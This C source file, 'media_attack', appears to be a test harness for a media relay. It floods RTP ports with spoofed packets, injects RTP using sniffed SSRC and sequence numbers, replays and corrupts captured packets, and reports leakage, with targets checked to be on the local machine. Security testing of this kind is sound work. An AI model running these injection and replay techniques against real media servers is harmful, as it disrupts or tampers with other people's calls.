/*
 * media_attack - what can be done to media ports by somebody who hears all of it, and a witness.
 *
 *   media_attack bleed   HONEST NEAR|- NET/BITS RATE IP:PORT-PORT...
 *   media_attack garbage HONEST NET/BITS RATE COUNT KINDS IP:PORT
 *   media_attack watch   HONEST IP[,IP...]
 *
 * bleed: over all ports of the ranges, and as often over those in use: RTP with made-up and with
 *   the right SSRC and next sequence number, in runs of six, with and without a tag; STUN, RTCP,
 *   bytes, until SIGTERM. One run in sixteen comes from NEAR, the address of honest ends.
 * garbage: onto one live port: packets of HONEST's as it sent them, changed. KINDS: t a wrong tag,
 *   c cut, s another SSRC, p replayed, q replayed RTCP, r random bytes, w well-formed RTP, x STUN.
 * watch: all that leaves the IPs, until the input ends: was it for HONEST, and is it of `bleed`?
 *   An injected packet is known by its length, which encryption does not hide, or by its bytes.
 * HONEST: a list of IP or NET/BITS, whose packets are heard.
 * The payloads of bleed have 77 bytes, those from NEAR 78; nothing honest has.
 * Sources are all addresses of the net (`ip route add local NET dev lo`); targets must be local.
 * Prints one JSON line. For Tandem's own measures on this machine.
 */
#include <arpa/inet.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 32, SIZE = 256, SLICE_US = 1000, RUN = 6, HEAD = 12, FAR_BYTES = 77, NEAR_BYTES = 78, TAG = 10,
       TARGETS = 4, HEARD = 256, AGED_US = 40000, ADDRS = 8 };

struct net { uint32_t net, mask; };	/* host order */
struct nets { struct net n[ADDRS]; int count; };
struct target { struct in_addr ip; uint16_t lo, hi; };

struct heard {			/* a packet of an honest end */
	struct sockaddr_in to;
	uint64_t at;
	size_t n;
	uint8_t p[SIZE];
};

struct burst {
	struct in_addr from;
	struct sockaddr_in to;
	char kind;
	uint32_t ssrc, ts;
	uint16_t seq;
	uint8_t pt, left, body, tail;
};

struct job {
	int fd, tap;
	uint16_t port;			/* ours, network order */
	struct nets honest;
	struct in_addr near;		/* none: 0 */
	uint32_t net, host_mask, rate;
	struct target target[TARGETS];
	int ntargets;
	const char *kinds;
	struct heard heard[HEARD], report[HEARD];
	uint64_t nheard, nreport;
	struct burst b;
	uint64_t rng, sent, limit, answers, made[128];
};

static volatile sig_atomic_t stopped;

static void on_term(int sig)
{
	(void)sig;
	stopped = 1;
}

static uint64_t roll(struct job *j)
{
	j->rng ^= j->rng << 13;
	j->rng ^= j->rng >> 7;
	j->rng ^= j->rng << 17;
	return j->rng;
}

static uint64_t now_us(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
}

static void put32(uint8_t *p, uint32_t v)
{
	for (int i = 0; i < 4; i++)
		p[i] = (uint8_t)(v >> (24 - 8 * i));
}

/* --- hearing ---------------------------------------------------------------------- */

/* Datagrams of these sources only: the kernel leaves the flood out. */
static int tap_open(const struct nets *src)
{
	struct sock_filter f[3 * ADDRS + 2];
	struct sock_fprog prog = { 0, f };
	int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP)), big = 8 << 20, n = 0;

	for (int i = 0; i < src->count; i++) {
		unsigned char left = (unsigned char)(3 * (src->count - i - 1) + 1);

		f[n++] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 12);
		f[n++] = (struct sock_filter)BPF_STMT(BPF_ALU | BPF_AND | BPF_K, src->n[i].mask);
		f[n++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, src->n[i].net, left, 0);
	}
	f[n++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0);
	f[n++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 65535);
	prog.len = (unsigned short)n;
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &prog, sizeof prog)) {
		perror("media_attack: a packet socket");
		exit(1);
	}
	(void)setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &big, sizeof big);
	return fd;
}

/* The next datagram, which loopback shows as it arrives: its bytes behind the UDP header, or NULL. */
static const uint8_t *tapped(int fd, uint8_t *p, size_t cap, size_t *n, struct sockaddr_in *from,
			     struct sockaddr_in *to, bool wait)
{
	ssize_t len;

	for (;;) {
		size_t ip;

		len = recv(fd, p, cap, wait ? 0 : MSG_DONTWAIT);
		if (len < 0)
			return NULL;
		ip = (size_t)(p[0] & 15) * 4;
		if (p[9] != IPPROTO_UDP || (size_t)len < ip + 8)
			continue;
		memcpy(&from->sin_addr, p + 12, 4);
		memcpy(&to->sin_addr, p + 16, 4);
		memcpy(&from->sin_port, p + ip, 2);
		memcpy(&to->sin_port, p + ip + 2, 2);
		*n = (size_t)len - ip - 8;
		return p + ip + 8;
	}
}

static bool is_target(const struct job *j, const struct sockaddr_in *to)
{
	uint16_t port = ntohs(to->sin_port);

	for (int i = 0; i < j->ntargets; i++)
		if (j->target[i].ip.s_addr == to->sin_addr.s_addr && port >= j->target[i].lo && port <= j->target[i].hi)
			return true;
	return false;
}

static void listen_in(struct job *j)
{
	struct sockaddr_in from, to = { .sin_family = AF_INET };
	uint8_t mem[4096];
	const uint8_t *p;
	size_t n;

	while ((p = tapped(j->tap, mem, sizeof mem, &n, &from, &to, false))) {
		bool rtcp = n >= 8 && p[1] >= 192 && p[1] <= 223;
		struct heard *h = rtcp ? &j->report[j->nreport % HEARD] : &j->heard[j->nheard % HEARD];

		if (!is_target(j, &to) || from.sin_port == j->port || n < 8 || n > SIZE - TAG)
			continue;
		*(rtcp ? &j->nreport : &j->nheard) += 1;
		h->to = to;
		h->at = now_us();
		h->n = n;
		memcpy(h->p, p, n);
	}
}

/* One of the last, long enough ago to have arrived. */
static const struct heard *one_heard(struct job *j, bool rtcp)
{
	uint64_t n = rtcp ? j->nreport : j->nheard;
	const struct heard *h = (rtcp ? j->report : j->heard) + (n ? roll(j) % (n < HEARD ? n : HEARD) : 0);

	return n && now_us() - h->at > AGED_US ? h : NULL;
}

/* --- making ------------------------------------------------------------------------ */

static void random_bytes(struct job *j, uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)(roll(j) >> 24);
}

static size_t stun(struct job *j, uint8_t *p)
{
	memset(p, 0, 20);
	p[1] = 1;			/* a binding request, RFC 8489 */
	put32(p + 4, 0x2112a442);
	random_bytes(j, p + 8, 12);
	return 20;
}

static size_t rtcp(struct job *j, uint8_t *p, uint32_t ssrc)
{
	memset(p, 0, 28);
	random_bytes(j, p + 8, 20);
	p[0] = 0x80;
	p[1] = 200;
	p[3] = 6;
	put32(p + 4, ssrc);
	return 28;
}

static size_t evil_rtp(uint8_t *p, struct burst *b)
{
	size_t n = HEAD + (size_t)b->body + b->tail;

	p[0] = 0x80;
	p[1] = b->pt;
	p[2] = (uint8_t)(b->seq >> 8);
	p[3] = (uint8_t)b->seq;
	b->seq++;
	b->ts += 160;
	put32(p + 4, b->ts);
	put32(p + 8, b->ssrc);
	for (size_t i = HEAD; i < n; i++)
		p[i] = (uint8_t)"EVIL"[i % 4];
	return n;
}

static struct in_addr somebody(struct job *j)
{
	return (struct in_addr){ htonl(j->net | ((uint32_t)(roll(j) >> 16) & j->host_mask)) };
}

static void new_burst(struct job *j)
{
	const struct heard *h = roll(j) % 2 ? one_heard(j, false) : NULL;
	const struct target *t = &j->target[roll(j) % (uint64_t)j->ntargets];
	struct burst *b = &j->b;
	bool near = j->near.s_addr && roll(j) % 16 == 0;

	*b = (struct burst){ .from = near ? j->near : somebody(j), .left = RUN, .kind = "www====xqr"[roll(j) % 10],
			     .ssrc = (uint32_t)roll(j), .ts = (uint32_t)roll(j), .seq = (uint16_t)roll(j),
			     .pt = roll(j) % 2 ? 8 : 0, .body = near ? NEAR_BYTES : FAR_BYTES,
			     .tail = roll(j) % 2 ? TAG : 0 };
	b->to = (struct sockaddr_in){ .sin_family = AF_INET, .sin_addr = t->ip,
				      .sin_port = htons((uint16_t)(t->lo + roll(j) % (uint64_t)(t->hi - t->lo + 1))) };
	if (!h)
		return;
	b->to = h->to;
	if (b->kind != '=')
		return;
	b->ssrc = (uint32_t)h->p[8] << 24 | (uint32_t)h->p[9] << 16 | (uint32_t)h->p[10] << 8 | h->p[11];
	b->seq = (uint16_t)((h->p[2] << 8 | h->p[3]) + 2);
	b->pt = h->p[1] & 0x7f;
}

static size_t bleed(struct job *j, uint8_t *p, struct in_addr *from, struct sockaddr_in *to)
{
	if (!j->b.left)
		new_burst(j);
	j->b.left--;
	*from = j->b.from;
	*to = j->b.to;
	switch (j->b.kind) {
	case 'x': return stun(j, p);
	case 'q': to->sin_port ^= htons((uint16_t)(roll(j) & 1)); return rtcp(j, p, j->b.ssrc);
	case 'r': random_bytes(j, p, 100); return 100;
	default: return evil_rtp(p, &j->b);
	}
}

/* A packet of the honest end, spoilt. */
static size_t spoilt(struct job *j, char kind, const struct heard *h, uint8_t *p)
{
	size_t n = h->n;

	memcpy(p, h->p, n);
	switch (kind) {
	case 't': p[n - 1 - roll(j) % TAG] ^= (uint8_t)(1 + roll(j) % 255); break;
	case 'c': n = roll(j) % n; break;
	case 's': put32(p + 8, (uint32_t)roll(j) | 1); break;
	default: break;
	}
	return n;
}

static size_t garbage(struct job *j, uint8_t *p, struct in_addr *from, struct sockaddr_in *to)
{
	char kind = j->kinds[roll(j) % strlen(j->kinds)];
	const struct heard *h = one_heard(j, kind == 'q');
	size_t n = 20 + roll(j) % 200;

	*from = somebody(j);
	*to = (struct sockaddr_in){ .sin_family = AF_INET, .sin_addr = j->target[0].ip, .sin_port = htons(j->target[0].lo) };
	if (strchr("tcspq", kind) && h) {
		*to = h->to;
		j->made[(int)kind]++;
		return spoilt(j, kind, h, p);
	}
	if (kind == 'p' || kind == 'q')		/* nothing to replay yet */
		kind = 0;
	if (kind == 'x') {
		n = stun(j, p);
	} else {
		random_bytes(j, p, n);
		if (kind == 'w')
			p[0] = 0x80;
	}
	j->made[(int)kind]++;
	return n;
}

/* --- sending ------------------------------------------------------------------------ */

static void batch(struct job *j, unsigned n)
{
	static struct mmsghdr m[BATCH];
	static struct iovec iov[BATCH];
	static struct sockaddr_in to[BATCH];
	static uint8_t p[BATCH][SIZE];
	static _Alignas(struct cmsghdr) char control[BATCH][CMSG_SPACE(sizeof(struct in_pktinfo))];
	int done;

	for (unsigned i = 0; i < n; i++) {
		struct in_pktinfo pi = { 0 };
		struct cmsghdr *c = (struct cmsghdr *)(void *)control[i];

		iov[i].iov_base = p[i];
		iov[i].iov_len = j->kinds ? garbage(j, p[i], &pi.ipi_spec_dst, &to[i]) : bleed(j, p[i], &pi.ipi_spec_dst, &to[i]);
		m[i].msg_hdr = (struct msghdr){ .msg_name = &to[i], .msg_namelen = sizeof to[i], .msg_iov = &iov[i],
						.msg_iovlen = 1, .msg_control = control[i], .msg_controllen = sizeof control[i] };
		*c = (struct cmsghdr){ CMSG_LEN(sizeof pi), IPPROTO_IP, IP_PKTINFO };
		memcpy(CMSG_DATA(c), &pi, sizeof pi);
	}
	done = sendmmsg(j->fd, m, n, 0);
	j->sent += done > 0 ? (uint64_t)done : 0;
}

static void drain(struct job *j)
{
	char b[4096];

	while (recv(j->fd, b, sizeof b, MSG_DONTWAIT) >= 0)
		j->answers++;
}

/* Until `limit` packets are sent, or SIGTERM. */
static void run(struct job *j)
{
	/* After a pause onto one port no more than 20 ms of it at once, onto thousands all of it. */
	uint64_t last = now_us(), credit = 0, now, most = j->kinds ? 20000 : 1000000;

	while (!stopped && j->sent < j->limit) {
		now = now_us();
		credit += (now - last) * j->rate;
		last = now;
		if (credit > most * j->rate)
			credit = most * j->rate;
		for (; credit >= BATCH * 1000000ull && j->sent < j->limit; credit -= BATCH * 1000000ull)
			batch(j, BATCH);
		listen_in(j);
		drain(j);
		usleep(SLICE_US);
	}
	usleep(300000);
	drain(j);
}

/* --- the witness ---------------------------------------------------------------------- */

struct seen { uint64_t packets, leaked, far, near; uint32_t leaked_max, far_max; };

static uint32_t worst(uint32_t *per_port)
{
	uint32_t max = 0;

	for (int i = 0; i < 65536; i++)
		max = per_port[i] > max ? per_port[i] : max;
	return max;
}

static void look(struct seen *s, const uint8_t *p, size_t n, bool honest, uint32_t *leaked, uint32_t *far)
{
	bool media = n >= HEAD && !(p[1] >= 192 && p[1] <= 223);
	size_t body = n >= HEAD ? n - HEAD : 0;

	s->packets++;
	s->leaked += !honest;
	*leaked += !honest;
	if (!media)
		return;
	if (body == FAR_BYTES || body == FAR_BYTES + TAG || memmem(p, n, "EVILEVIL", 8)) {
		bool near = body == NEAR_BYTES || body == NEAR_BYTES + TAG;

		s->near += near;
		s->far += !near;
		*far += !near;
	} else {
		s->near += body == NEAR_BYTES || body == NEAR_BYTES + TAG;
	}
}

static bool among(const struct nets *a, const struct in_addr *ip)
{
	for (int i = 0; i < a->count; i++)
		if ((ntohl(ip->s_addr) & a->n[i].mask) == a->n[i].net)
			return true;
	return false;
}

static int watch(const struct nets *honest, const struct nets *ours)
{
	static uint32_t leaked[65536], far[65536];
	int fd = tap_open(ours);
	struct timeval tick = { 0, 200000 };
	struct tpacket_stats st = { 0 };
	socklen_t len = sizeof st;
	struct sockaddr_in from, to;
	struct seen s = { 0 };
	uint8_t mem[4096];
	char c;

	(void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tick, sizeof tick);
	for (bool on = true; on;) {
		size_t n;
		const uint8_t *p = tapped(fd, mem, sizeof mem, &n, &from, &to, true);

		if (!p) {
			fd_set set;
			struct timeval none = { 0 };

			FD_ZERO(&set);
			FD_SET(STDIN_FILENO, &set);
			on = select(STDIN_FILENO + 1, &set, NULL, NULL, &none) <= 0 || read(STDIN_FILENO, &c, 1) > 0;
			continue;
		}
		look(&s, p, n, among(honest, &to.sin_addr), &leaked[ntohs(from.sin_port)], &far[ntohs(from.sin_port)]);
	}
	(void)getsockopt(fd, SOL_PACKET, PACKET_STATISTICS, &st, &len);
	printf("{\"packets\":%llu,\"leaked\":%llu,\"leaked_max\":%u,\"injected\":%llu,\"injected_max\":%u,\"near\":%llu,\"missed\":%u}\n",
	       (unsigned long long)s.packets, (unsigned long long)s.leaked, worst(leaked), (unsigned long long)s.far,
	       worst(far), (unsigned long long)s.near, st.tp_drops);
	return 0;
}

/* --- words ----------------------------------------------------------------------------- */

static bool local(const struct in_addr *a)
{
	struct sockaddr_in s = { .sin_family = AF_INET, .sin_addr = *a };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	bool ok = fd >= 0 && bind(fd, (struct sockaddr *)&s, sizeof s) == 0;

	if (fd >= 0)
		close(fd);
	return ok;
}

static bool read_one(char *text, struct net *n)
{
	char *slash = strchr(text, '/');
	unsigned long bits = slash ? strtoul(slash + 1, NULL, 10) : 32;
	struct in_addr a;

	if (slash)
		*slash = 0;
	if (bits < 1 || bits > 32 || inet_pton(AF_INET, text, &a) != 1)
		return false;
	n->mask = bits == 32 ? UINT32_MAX : ~(UINT32_MAX >> bits);
	n->net = ntohl(a.s_addr) & n->mask;
	return true;
}

static bool read_list(char *text, struct nets *a)
{
	char *save = NULL;

	for (char *w = strtok_r(text, ",", &save); w; w = strtok_r(NULL, ",", &save))
		if (a->count == ADDRS || !read_one(w, &a->n[a->count++]))
			return false;
	return a->count > 0;
}

static bool read_target(struct job *j, char *text)
{
	char *port = strchr(text, ':'), *last = port ? strchr(port, '-') : NULL;
	struct target *t = &j->target[j->ntargets];

	if (!port || j->ntargets == TARGETS)
		return false;
	*port++ = 0;
	t->lo = (uint16_t)strtoul(port, NULL, 10);
	t->hi = last ? (uint16_t)strtoul(last + 1, NULL, 10) : (uint16_t)(t->lo + 1);
	j->ntargets++;
	return inet_pton(AF_INET, text, &t->ip) == 1 && t->lo && t->hi >= t->lo && local(&t->ip);
}

/* Where the attack comes from. */
static bool read_net(struct job *j, char *text)
{
	struct net n;
	struct in_addr a;

	if (!read_one(text, &n))
		return false;
	j->net = n.net;
	j->host_mask = ~n.mask;
	a.s_addr = htonl(n.net);
	return local(&a);
}

static int attack(struct job *j)
{
	struct sockaddr_in any = { .sin_family = AF_INET };
	struct sigaction stop = { .sa_handler = on_term };
	socklen_t len = sizeof any;
	int big = 8 << 20;

	j->rng = 88172645463325252ull;
	(void)sigaction(SIGTERM, &stop, NULL);
	j->tap = tap_open(&j->honest);
	j->fd = socket(AF_INET, SOCK_DGRAM, 0);
	(void)setsockopt(j->fd, SOL_SOCKET, SO_RCVBUFFORCE, &big, sizeof big);
	if (j->fd < 0 || bind(j->fd, (struct sockaddr *)&any, sizeof any)) {
		perror("media_attack");
		return 1;
	}
	(void)getsockname(j->fd, (struct sockaddr *)&any, &len);
	j->port = any.sin_port;
	run(j);
	printf("{\"sent\":%llu,\"answers\":%llu,\"heard\":%llu,\"heard_rtcp\":%llu,\"replayed\":%llu,\"replayed_rtcp\":%llu}\n",
	       (unsigned long long)j->sent, (unsigned long long)j->answers, (unsigned long long)j->nheard,
	       (unsigned long long)j->nreport, (unsigned long long)j->made['p'], (unsigned long long)j->made['q']);
	return 0;
}

static int bleed_words(struct job *j, int argc, char **argv)
{
	bool ok = argc >= 7 && read_list(argv[2], &j->honest) && read_net(j, argv[4]);

	if (ok && strcmp(argv[3], "-") != 0)
		ok = inet_pton(AF_INET, argv[3], &j->near) == 1;
	for (int i = 6; ok && i < argc; i++)
		ok = read_target(j, argv[i]);
	if (!ok)
		return 1;
	j->rate = (uint32_t)strtoul(argv[5], NULL, 10);
	j->limit = UINT64_MAX;
	return attack(j);
}

static int garbage_words(struct job *j, int argc, char **argv)
{
	if (argc != 8 || !read_list(argv[2], &j->honest) || !read_net(j, argv[3]) || !read_target(j, argv[7]))
		return 1;
	j->rate = (uint32_t)strtoul(argv[4], NULL, 10);
	j->limit = strtoull(argv[5], NULL, 10);
	j->kinds = argv[6];
	return attack(j);
}

int main(int argc, char **argv)
{
	static struct job j;
	struct nets a = { 0 }, b = { 0 };
	int code = 1;

	if (argc == 4 && !strcmp(argv[1], "watch") && read_list(argv[2], &a) && read_list(argv[3], &b))
		code = watch(&a, &b);
	else if (argc > 1 && !strcmp(argv[1], "garbage"))
		code = garbage_words(&j, argc, argv);
	else if (argc > 1 && !strcmp(argv[1], "bleed"))
		code = bleed_words(&j, argc, argv);
	if (code)
		fprintf(stderr, "media_attack: these words are not understood; see the head of media_attack.c\n");
	return code;
}
